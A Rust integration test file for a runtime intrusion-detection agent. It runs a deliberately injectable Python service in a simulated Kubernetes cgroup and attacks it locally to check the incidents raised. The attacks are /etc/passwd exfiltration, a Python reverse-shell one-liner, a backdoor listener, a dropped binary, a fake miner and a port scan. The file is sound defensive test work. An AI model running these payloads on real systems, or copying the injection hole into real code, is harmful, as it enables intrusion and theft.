//! Runtime models and incidents end to end: a "service" in a container
//! scope (a kubepods-shaped cgroup) is learned, then attacked through its
//! own command execution: a shell it spawns copies /etc/passwd and sends it
//! to a local "attacker", opens a listener, drops and runs a binary. The
//! incidents, their snapshots, the model and the serials must be right, and
//! survive a restart.

use std::{
    collections::BTreeSet,
    io::{Read, Write},
    net::{TcpListener, TcpStream},
    process::{Child, Command},
    sync::Arc,
    time::Duration,
};

use fdr_agent::event::{Detail, Event, EventKind};
use fdr_proto::v1 as pb;
use fdr_tests::{unique, wait_until, Capture, Cgroup, TempDir};

/// A service with a command-injection hole: `work` does its normal job
/// (writes a cache file, calls its backend), anything else runs in a shell.
const SERVICE: &str = r#"
import os, socket, subprocess, sys
port, workdir, backend = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", port))
s.listen(16)
n = 100
while True:
    c, _ = s.accept()
    cmd = c.recv(65536).decode()
    if cmd == "quit":
        c.close()
        break
    if cmd == "work":
        n += 1
        with open(os.path.join(workdir, "cache-%d" % n), "w") as f:
            f.write("x")
        socket.create_connection(("127.0.0.1", backend)).close()
        out = b"ok"
    else:
        out = subprocess.run(cmd, shell=True, capture_output=True).stdout or b"ok"
    c.sendall(out)
    c.close()
"#;

fn free_port() -> u16 {
    TcpListener::bind("127.0.0.1:0")
        .and_then(|l| l.local_addr())
        .map(|a| a.port())
        .expect("a free port")
}

/// A listener that accepts and drops connections, in a thread.
fn sink() -> u16 {
    let l = TcpListener::bind("127.0.0.1:0").expect("bind sink");
    let port = l.local_addr().expect("addr").port();
    std::thread::spawn(move || {
        for c in l.incoming().flatten() {
            let mut c = c;
            let _ = c.set_read_timeout(Some(Duration::from_millis(500)));
            let mut buf = [0u8; 4096];
            let _ = c.read(&mut buf);
        }
    });
    port
}

/// Sends one request to the service and returns its answer.
async fn request(port: u16, cmd: &str) -> String {
    let cmd = cmd.to_owned();
    tokio::task::spawn_blocking(move || {
        let start = std::time::Instant::now();
        let mut c = loop {
            match TcpStream::connect(("127.0.0.1", port)) {
                Ok(c) => break c,
                Err(e) if start.elapsed() < fdr_tests::DEADLINE => {
                    let _ = e;
                    std::thread::sleep(Duration::from_millis(20));
                }
                Err(e) => panic!("service not reachable: {e}"),
            }
        };
        c.write_all(cmd.as_bytes()).expect("send");
        let mut out = String::new();
        let _ = c.read_to_string(&mut out);
        out
    })
    .await
    .expect("request task")
}

struct Service {
    child: Child,
    port: u16,
}

impl Drop for Service {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn start_service(cg: &Cgroup, dir: &std::path::Path, backend: u16) -> Service {
    let port = free_port();
    let script = format!(
        "echo $$ > {} && exec python3 -c '{SERVICE}' {port} {} {backend}",
        cg.procs_file().display(),
        dir.display()
    );
    let child = Command::new("/bin/sh")
        .args(["-c", &script])
        .spawn()
        .expect("start the service");
    Service { child, port }
}

/// Runs `python3 -c program` in the cgroup `cg` (the shell moves itself
/// there first) and waits for it to succeed.
fn python_in(cg: &Cgroup, program: &str) {
    let script = format!(
        "echo $$ > {} && exec python3 -c '{program}'",
        cg.procs_file().display()
    );
    let st = Command::new("/bin/sh")
        .args(["-c", &script])
        .status()
        .expect("run python3");
    assert!(st.success(), "{program}");
}

fn audits_in(
    cap: &Capture,
    scope: &fdr_agent::attribution::scope::Scope,
    after_seq: u64,
) -> Vec<Arc<Event>> {
    cap.recorded(|e| e.kind() == EventKind::Audit && &e.scope == scope && e.seq > after_seq)
}

fn file_written(e: &Event, path: &str) -> bool {
    matches!(&e.record.detail, Detail::File { kind: EventKind::FileWrite, file } if file.path == path)
}

async fn incidents(socket: &std::path::Path, after: u64, limit: u32) -> pb::ListIncidentsResponse {
    let mut c = fdr_cli::client::connect_unix(socket)
        .await
        .expect("connect");
    c.list_incidents(pb::ListIncidentsRequest {
        after_serial: after,
        limit,
        ..Default::default()
    })
    .await
    .expect("ListIncidents")
    .into_inner()
}

async fn committed_snapshot(cap: &Capture, id: u64) -> pb::Snapshot {
    let state = cap.agent.as_ref().expect("running").state.clone();
    wait_until("the incident's snapshot committed", || {
        state.store.get(id).ok().flatten()
    })
    .await
}

fn tweak(data: std::path::PathBuf) -> impl FnOnce(&mut fdr_agent::config::Config) {
    move |c| {
        c.recorder.data_dir = data;
        c.recorder.snapshot_after = Duration::from_secs(1);
        c.analysis.learning_period = Duration::from_secs(3);
        c.attribution.runtime_endpoints.clear();
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn learned_service_attacked_raises_typed_incidents_that_survive_a_restart() {
    let data = TempDir::new("incidents-data");
    let work = TempDir::new("incidents-work");
    let mut cap = Capture::start_with("incidents", tweak(data.path().join("db"))).await;
    let id = format!("{:0>64x}", std::process::id() as u64 * 7919);
    let cg = Cgroup::create(&format!(
        "{}/kubepods.slice/kubepods-burstable.slice/kubepods-burstable-pod{}.slice/cri-containerd-{id}.scope",
        unique("k8s"),
        unique("uid").replace('-', "_")
    ));
    let scope = fdr_agent::attribution::scope::Scope::Container(id.as_str().into());
    let backend = sink();
    let svc = start_service(&cg, work.path(), backend);

    // Learning: the service's normal work.
    for _ in 0..3 {
        assert_eq!(request(svc.port, "work").await, "ok");
    }
    let key = format!("container:{id}");
    let state = cap.agent.as_ref().expect("running").state.clone();
    let until = cap.model_learning_until(&key).await;
    let learned_items = |cap: &Capture| -> Vec<String> {
        cap.recorded(|e| e.kind() == EventKind::ModelLearned && e.scope == scope)
            .iter()
            .filter_map(|e| match &e.record.detail {
                Detail::Learned(l) => Some(format!("{} {}", l.section, l.item)),
                _ => None,
            })
            .collect()
    };
    let want_connect = format!("connect tcp 127.0.0.1:{backend}");
    let items = wait_until("the backend call learned", || {
        let items = learned_items(&cap);
        items.iter().any(|i| i == &want_connect).then_some(items)
    })
    .await;
    assert!(
        items
            .iter()
            .any(|i| i == &format!("listen tcp/{}", svc.port)),
        "{items:?}"
    );
    assert!(
        items
            .iter()
            .any(|i| i == &format!("connect tcp 127.0.0.1:{backend}")),
        "{items:?}"
    );
    assert!(
        items
            .iter()
            .any(|i| i.starts_with("file ") && i.ends_with("/cache-#")),
        "{items:?}"
    );
    assert!(
        audits_in(&cap, &scope, 0).is_empty(),
        "nothing flagged while learning"
    );

    // Active now: benign repeats raise nothing.
    wait_until("learning to end", || {
        let now = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .ok()?
            .as_nanos() as u64;
        (now > until).then_some(())
    })
    .await;
    for _ in 0..2 {
        assert_eq!(request(svc.port, "work").await, "ok");
    }
    let last = work.path().join("cache-105").display().to_string();
    let repeat = cap
        .wait_for("the last benign write", |e| file_written(e, &last))
        .await;
    assert!(
        audits_in(&cap, &scope, 0).is_empty(),
        "benign repeats raise nothing"
    );

    // The attack, through the service's hole.
    let attacker = sink();
    let loot = work.path().join("x").display().to_string();
    let exfil = format!(
        "cp /etc/passwd {loot} && python3 -c \"import socket; socket.create_connection(('127.0.0.1', {attacker})).sendall(open('{loot}', 'rb').read())\""
    );
    request(svc.port, &exfil).await;
    let backdoor = free_port();
    request(
        svc.port,
        &format!(
            "python3 -c \"import socket, time; s = socket.socket(); s.bind(('127.0.0.1', {backdoor})); s.listen(); time.sleep(3)\" >/dev/null 2>&1 &"
        ),
    )
    .await;
    let dropper = work.path().join("dropper").display().to_string();
    request(svc.port, &format!("cp /bin/true {dropper} && {dropper}")).await;

    let wanted = [
        "reverse-shell",
        "data-exfiltration",
        "backdoor-listener",
        "suspicious-binary",
    ];
    let socket = cap.socket();
    let mut all = wait_until_async_incidents(&socket, &id, &wanted).await;
    all.sort_by_key(|i| i.serial);
    for i in &all {
        println!("#{} {} [{}]: {}", i.serial, i.r#type, i.severity, i.summary);
    }
    for i in &all {
        assert_eq!(i.scope, format!("container:{id}"));
        assert_eq!(i.model, key);
        assert!(i.snapshot_id > 0, "snapshot frozen for #{}", i.serial);
        assert!(!i.audits.is_empty());
    }
    let by_type = |t: &str| all.iter().find(|i| i.r#type == t).expect(t).clone();
    let exf = by_type("data-exfiltration");
    assert_eq!(exf.severity, pb::Severity::Critical as i32);
    assert!(
        exf.audits[0].message.contains("/etc/passwd read by"),
        "{:?}",
        exf.audits[0]
    );
    assert!(exf.audits[0]
        .message
        .contains(&format!("127.0.0.1:{attacker}")));
    let rs = by_type("reverse-shell");
    assert!(
        rs.audits.iter().any(|a| a.rule == "reverse-shell"),
        "{:?}",
        rs.audits
    );
    let bl = by_type("backdoor-listener");
    assert!(
        bl.audits
            .iter()
            .any(|a| a.item == format!("tcp/{backdoor}")),
        "{:?}",
        bl.audits
    );
    let sb = by_type("suspicious-binary");
    assert!(
        sb.audits.iter().any(|a| a.item.ends_with("/dropper")),
        "{:?}",
        sb.audits
    );

    // The exfiltration's snapshot: the lead-up, then the steps in order.
    let snap = committed_snapshot(&cap, exf.snapshot_id).await;
    let info = snap.info.clone().expect("info");
    // Shared by the incidents of the attack (one scope, one window).
    assert!(info.incidents.contains(&exf.serial), "{info:?}");
    let pos = |what: &str, f: &dyn Fn(&pb::Event) -> bool| {
        snap.events
            .iter()
            .position(f)
            .unwrap_or_else(|| panic!("{what} in the snapshot"))
    };
    let lead_up = pos(
        "the learned listener",
        &|e| matches!(&e.detail, Some(pb::event::Detail::ModelLearned(l)) if l.section == "listen"),
    );
    let benign = pos("a benign repeat", &|e| e.seq == repeat.seq);
    let cp = pos("cp reading /etc/passwd", &|e| {
        matches!(&e.detail, Some(pb::event::Detail::File(f)) if f.path == "/etc/passwd")
            && e.kind == pb::EventKind::SensitiveRead as i32
            && e.process.as_ref().is_some_and(|p| p.exe.ends_with("/cp"))
    });
    let sent = pos("the connection to the attacker", &|e| {
        matches!(&e.detail, Some(pb::event::Detail::Net(n)) if n.remote_port == u32::from(attacker))
            && e.kind == pb::EventKind::NetConnect as i32
    });
    let audit = pos(
        "the exfiltration audit",
        &|e| matches!(&e.detail, Some(pb::event::Detail::Audit(a)) if a.rule == "exfiltration" && a.incident == exf.serial),
    );
    assert!(
        lead_up < benign && benign < cp && cp < sent && sent < audit,
        "{lead_up} {benign} {cp} {sent} {audit}"
    );
    assert!(snap.events.windows(2).all(|w| w[0].seq < w[1].seq));

    // ListIncidents pages: each incident exactly once.
    let mut seen = Vec::new();
    let mut after = 0;
    loop {
        let page = incidents(&socket, after, 2).await;
        if page.incidents.is_empty() {
            assert_eq!(page.last_serial, after);
            break;
        }
        seen.extend(page.incidents.iter().map(|i| i.serial));
        after = page.last_serial;
    }
    let unique_serials: BTreeSet<u64> = seen.iter().copied().collect();
    assert_eq!(
        unique_serials.len(),
        seen.len(),
        "no incident twice: {seen:?}"
    );
    assert!(all.iter().all(|i| unique_serials.contains(&i.serial)));
    let max_serial = *unique_serials.last().expect("incidents");

    // Restart on the same data directory.
    drop(svc);
    drop(state);
    cap.stop().await;
    let mut cap = Capture::start_with("incidents2", tweak(data.path().join("db"))).await;
    let socket = cap.socket();
    let again = incidents(&socket, 0, 1000).await;
    let again_serials: BTreeSet<u64> = again.incidents.iter().map(|i| i.serial).collect();
    assert_eq!(again_serials, unique_serials, "incidents survive a restart");
    let mut client = fdr_cli::client::connect_unix(&socket)
        .await
        .expect("connect");
    let model = client
        .get_model(pb::GetModelRequest {
            key: key.clone(),
            ..Default::default()
        })
        .await
        .expect("the model survives")
        .into_inner();
    assert_eq!(model.state, pb::ModelState::Active as i32);
    let listen = model
        .sections
        .iter()
        .find(|s| s.name == "listen")
        .expect("listen section");
    assert!(listen
        .items
        .iter()
        .any(|i| i.value == format!("tcp/{}", svc_port_of(&items))));

    // A new incident after the restart gets the next serial, and a stream
    // from the last serial seen delivers it.
    let mut stream = client
        .stream_incidents(pb::StreamIncidentsRequest {
            after_serial: max_serial,
            ..Default::default()
        })
        .await
        .expect("StreamIncidents")
        .into_inner();
    let miner = work.path().join("xmrig").display().to_string();
    let script = format!(
        "echo $$ > {} && cp /bin/true {miner} && exec {miner}",
        cg.procs_file().display()
    );
    let st = Command::new("/bin/sh")
        .args(["-c", &script])
        .status()
        .expect("run");
    assert!(st.success());
    let fresh = wait_until_async_incidents(&socket, &id, &["crypto-miner"]).await;
    let m = fresh
        .iter()
        .find(|i| i.r#type == "crypto-miner")
        .expect("miner");
    assert!(m.serial > max_serial, "{} > {max_serial}", m.serial);
    assert_eq!(
        incidents(&socket, max_serial, 10)
            .await
            .incidents
            .iter()
            .map(|i| i.serial)
            .collect::<Vec<_>>(),
        vec![m.serial]
    );
    let streamed = loop {
        let i = tokio::time::timeout(fdr_tests::DEADLINE, stream.message())
            .await
            .expect("an incident streamed in time")
            .expect("stream open")
            .expect("an incident");
        assert!(
            i.serial > max_serial,
            "only incidents after the serial given"
        );
        if i.r#type == "crypto-miner" {
            break i;
        }
    };
    assert_eq!(streamed.serial, m.serial);
    assert_eq!(streamed.r#type, "crypto-miner");
    drop(stream);
    let _ = &mut cap;
    cap.stop().await;
    drop(cg);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn refused_connects_to_many_ports_are_a_port_scan() {
    let data = TempDir::new("scan-data");
    let cap = Capture::start_with("scan", tweak(data.path().join("db"))).await;
    let id = format!("{:0>64x}", u64::from(std::process::id()) * 104_729);
    let cg = Cgroup::create(&format!(
        "{}/kubepods/besteffort/pod{}/{id}",
        unique("k8s"),
        unique("uid")
    ));
    // Ports nothing listens on: every connect is refused, as most of a
    // real scan's are.
    let ports: Vec<u16> = (0..25).map(|_| free_port()).collect();
    let list = ports
        .iter()
        .map(u16::to_string)
        .collect::<Vec<_>>()
        .join(",");
    let scan = format!(
        "import socket\nfor p in [{list}]:\n    try:\n        socket.create_connection((\"127.0.0.1\", p)).close()\n    except ConnectionRefusedError:\n        pass\n"
    );
    python_in(&cg, &scan);

    let socket = cap.socket();
    let found = wait_until_async_incidents(&socket, &id, &["port-scan"]).await;
    let scan = found
        .iter()
        .find(|i| i.r#type == "port-scan")
        .expect("port-scan");
    assert_eq!(scan.severity, pb::Severity::High as i32);
    let audit = &scan.audits[0];
    assert_eq!(audit.rule, "port-scan");
    assert!(
        audit.message.contains("20 distinct destinations"),
        "{}",
        audit.message
    );
    // The 20th port tried completes the scan.
    assert_eq!(audit.item, format!("127.0.0.1:{}", ports[19]));
    // The refused attempts are in the incident's snapshot, with their error.
    let snap = committed_snapshot(&cap, scan.snapshot_id).await;
    let refused: Vec<u32> = snap
        .events
        .iter()
        .filter_map(|e| match &e.detail {
            Some(pb::event::Detail::Net(n)) if n.error == "ECONNREFUSED" => Some(n.remote_port),
            _ => None,
        })
        .collect();
    let wanted: Vec<u32> = ports[..20].iter().map(|p| u32::from(*p)).collect();
    assert!(
        wanted.iter().all(|p| refused.contains(p)),
        "{wanted:?} in {refused:?}"
    );
    cap.stop().await;
    drop(cg);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_shell_on_a_socket_its_process_connected_is_a_reverse_shell() {
    let data = TempDir::new("revshell-data");
    let mut cap = Capture::start_with("revshell", tweak(data.path().join("db"))).await;
    let id = format!("{:0>64x}", u64::from(std::process::id()) * 15_485_863);
    let cg = Cgroup::create(&format!(
        "{}/kubepods/besteffort/pod{}/{id}",
        unique("k8s"),
        unique("uid")
    ));
    // The attacker's end: tells the shell to leave at once, so the shell
    // lives for milliseconds (the check happens in the kernel at exec).
    let l = TcpListener::bind("127.0.0.1:0").expect("bind");
    let attacker = l.local_addr().expect("addr").port();
    let answer = std::thread::spawn(move || {
        let (mut c, _) = l.accept().expect("the shell calls back");
        c.write_all(b"exit 0\n").expect("send");
        let mut rest = Vec::new();
        let _ = c.read_to_end(&mut rest);
    });
    let one_liner = format!(
        "import socket, os; s = socket.create_connection((\"127.0.0.1\", {attacker})); [os.dup2(s.fileno(), f) for f in (0, 1, 2)]; os.execv(\"/bin/sh\", [\"sh\", \"-i\"])"
    );
    python_in(&cg, &one_liner);
    answer.join().expect("attacker thread");

    let scope = fdr_agent::attribution::scope::Scope::Container(id.as_str().into());
    let shell = cap
        .wait_for("the shell's exec", |e| {
            e.scope == scope && e.argv() == ["sh", "-i"] && e.kind() == EventKind::Exec
        })
        .await;
    assert!(
        matches!(
            shell.record.detail,
            Detail::Exec {
                stdin_socket: true,
                ..
            }
        ),
        "{:?}",
        shell.record.detail
    );
    let found = wait_until_async_incidents(&cap.socket(), &id, &["reverse-shell"]).await;
    let rs = found
        .iter()
        .find(|i| i.r#type == "reverse-shell")
        .expect("reverse-shell");
    assert_eq!(rs.severity, pb::Severity::Critical as i32);
    let a = &rs.audits[0];
    assert_eq!(a.item, format!("127.0.0.1:{attacker}"));
    assert!(
        a.message.contains("reads its input from a socket")
            && a.message
                .contains(&format!("pid {} connected", shell.pid())),
        "{}",
        a.message
    );
    cap.stop().await;
    drop(cg);
}

/// The port of the learned listener, from the learned items.
fn svc_port_of(items: &[String]) -> String {
    items
        .iter()
        .find_map(|i| i.strip_prefix("listen tcp/"))
        .expect("a learned listener")
        .to_owned()
}

/// Polls ListIncidents until the scope has incidents of every `types`,
/// each with its snapshot frozen (the freeze follows the opening).
async fn wait_until_async_incidents(
    socket: &std::path::Path,
    id: &str,
    types: &[&str],
) -> Vec<pb::Incident> {
    let start = std::time::Instant::now();
    loop {
        let list = incidents(socket, 0, 1000).await.incidents;
        let mine: Vec<pb::Incident> = list
            .into_iter()
            .filter(|i| i.scope == format!("container:{id}"))
            .collect();
        if types.iter().all(|t| mine.iter().any(|i| i.r#type == *t))
            && mine.iter().all(|i| i.snapshot_id > 0)
        {
            return mine;
        }
        assert!(
            start.elapsed() < fdr_tests::DEADLINE,
            "incidents {types:?} with snapshots; have {:?}",
            mine.iter()
                .map(|i| (&i.r#type, &i.summary, i.snapshot_id))
                .collect::<Vec<_>>()
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}
